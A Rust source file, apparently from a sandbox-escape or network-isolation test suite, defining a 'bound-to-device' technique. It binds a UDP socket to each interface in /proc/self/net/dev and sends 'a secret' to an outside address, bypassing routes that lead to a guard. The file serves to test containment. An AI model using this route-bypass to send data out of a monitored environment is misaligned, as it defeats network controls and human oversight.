//! Sockets bound to a device.

use std::io;

use socket2::{Domain, Type};

use crate::prelude::*;

pub(super) const TECHNIQUE: Technique = Technique {
    id: "bound-to-device",
    family: Family::Kernel,
    name: "Sockets bound to a device",
    tries: "Sends a datagram by each network device that it has, whatever the routes say (SO_BINDTODEVICE).",
    danger: "Routes that lead to a guard lead nobody who names the way out himself.",
    places: Places::Everywhere,
    steps: &[Step::Do("a datagram to `93.184.216.35:7000` by each device of `/proc/self/net/dev`", send)],
    expect: PACKETS,
    on_host: None,
};

fn send(_: &Inside) -> io::Result<()> {
    let devices = std::fs::read_to_string("/proc/self/net/dev")?;
    // Two lines of headings, then a device a line: its name and a colon come first.
    for device in devices.lines().skip(2).filter_map(|line| line.split_once(':')).map(|(name, _)| name.trim()) {
        let socket = socket2::Socket::new(Domain::IPV4, Type::DGRAM, None)?;
        // Some devices are down, and some lead nowhere.
        let _ = socket
            .bind_device(Some(device.as_bytes()))
            .and_then(|()| socket.send_to(b"a secret", &std::net::SocketAddr::new(ELSEWHERE, 7000).into()));
    }
    Ok(())
}
